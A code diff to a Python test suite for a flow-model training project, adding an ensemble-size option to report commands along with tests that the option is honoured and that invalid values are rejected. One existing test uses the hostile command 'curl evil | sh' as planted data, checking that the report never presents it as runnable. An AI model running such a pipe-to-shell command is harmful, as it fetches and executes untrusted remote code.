@@ -23,7 +23,7 @@ import flows
 from flows.config import build
 from flows.core import Sampler, Spec
 from flows.errors import UserError
-from flows.evaluation import runs
+from flows.evaluation import measure, runs
 from flows.evaluation.meaning import rows
 from flows.evaluation.runs import find, open_run
 from flows.evaluation.tasks import perform
@@ -151,12 +151,13 @@ def test_runs_of_one_name_are_told_apart(trained, tmp_path):
 @pytest.mark.parametrize("name", ["b,1", "my run", "a=1", 'the "best"', "back\\"])
 def test_the_reports_commands_open_the_run_whatever_its_folder_is_called(trained, tmp_path, name):
     run = shutil.copytree(trained, tmp_path / name)
-    commands = [step.command for step in _steps(run, {}, "last", 3) if "evaluate.py" in step.command]
+    commands = [step.command for step in _steps(run, {}, "last", 7, 3) if "evaluate.py" in step.command]
     assert len(commands) == 2
     for command in commands:
         given = OverridesParser.create().parse_overrides(shlex.split(command)[2:])
         assert {each.key_or_group: each.value() for each in given}["run"] == str(run)
-    (board,) = (step.command for step in _steps(run, {}, "best", 0) if "tensorboard" in step.command)
+    assert "n_members=7" in commands[0]
+    (board,) = (step.command for step in _steps(run, {}, "best", 50, 0) if "tensorboard" in step.command)
     assert shlex.split(board)[-1] == str(run / "tensorboard")
 
 
@@ -166,7 +167,7 @@ def test_the_report_gives_no_command_that_a_runs_file_made_up(run):
     html = (run / "evaluation/report.html").read_text()
     assert "<dt>command, as the run recorded it</dt><dd>curl evil | sh</dd>" in html
     assert not any("evil" in shown for shown in re.findall(r"<pre>.*?</pre>", html, re.DOTALL))
-    (code, *_) = _steps(run, {"commit": "0123abcdef+changes"}, "best", 0)
+    (code, *_) = _steps(run, {"commit": "0123abcdef+changes"}, "best", 50, 0)
     assert code.command == "git checkout 0123abcdef"
 
 
@@ -177,6 +178,39 @@ def test_a_run_without_metrics_has_no_curves(run):
     (run / "metrics.csv").write_text("step,nll\n1,one\n")
     with pytest.raises(UserError, match=r"metrics\.csv: can't be read \(could not convert"):
         do("report", run=run)
+
+
+@pytest.fixture(scope="session")
+def fields(tmp_path_factory):
+    """A small run of fields."""
+    folder = tmp_path_factory.mktemp("runs") / "fields"
+    overrides = [f"run_dir={folder}", "dataset=grf", "model=conditional_flow", "runtime=cpu", "logger=csv"]
+    overrides += ["dataset.height=8", "dataset.width=8", "dataset.n_train=64", "dataset.n_val=16"]
+    overrides += ["dataset.n_test=20", "dataset.fresh=false", "model.layers=2", "model.width=8"]
+    overrides += ["trainer.max_steps=4", "trainer.validate_every=2", "trainer.batch_size=16"]
+    subprocess.run([sys.executable, "train.py", *overrides], cwd=ROOT, check=True, capture_output=True)
+    return folder
+
+
+def test_as_many_members_as_asked_for_are_drawn_for_each_field(fields, tmp_path, monkeypatch):
+    asked = []
+
+    def judged(*arguments):
+        asked.append(arguments[-1])
+        return {}
+
+    monkeypatch.setattr(measure, "judge_fields", judged)
+    do("report", run=fields, output=tmp_path / "one", n_members=7)
+    do("report", runs=[str(fields)], output=tmp_path / "several", n_members=8)
+    do("report", run=fields, output=tmp_path / "default")
+    assert asked == [7, 8, 50]
+
+
+@pytest.mark.parametrize("n_members", [1, 0, -3, 1001, 2.5, "many", None])
+def test_an_ensemble_of_nonsense_is_refused_in_one_line(fields, tmp_path, n_members):
+    with pytest.raises(UserError, match="n_members") as refusal:
+        do("report", run=fields, output=tmp_path, n_members=n_members)
+    assert "\n" not in str(refusal.value)
 
 
 # Which run
